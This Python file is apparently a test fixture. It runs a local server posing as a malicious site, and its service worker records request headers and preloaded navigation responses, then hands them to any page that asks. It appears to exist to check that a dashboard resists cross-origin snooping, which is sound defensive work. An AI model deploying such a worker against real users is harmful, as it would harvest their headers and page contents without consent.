"""A malicious site: its pages try to reach the dashboard by an opener and a service worker."""

import http.server
import sys

WORKER = b"""let seen = '';
addEventListener('install', event => event.waitUntil(skipWaiting()));
addEventListener('activate', event => event.waitUntil(
  registration.navigationPreload.enable().then(() => clients.claim())));
addEventListener('message', event => event.ports[0].postMessage(seen));
addEventListener('fetch', event => {
  seen += [...event.request.headers].join();
  if (event.request.mode !== 'navigate') return;
  event.respondWith((async () => {
    const response = await event.preloadResponse;
    seen += [...response.headers].join() + await response.clone().text();
    return response;
  })());
});"""


class Handler(http.server.BaseHTTPRequestHandler):
    """Serves the service worker at /worker.js, and a page at any other path."""

    def do_GET(self) -> None:
        is_worker = self.path == "/worker.js"
        body = WORKER if is_worker else b"<!doctype html><title>site</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cross-Origin-Opener-Policy", "same-origin")
        self.end_headers()
        self.wfile.write(body)


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
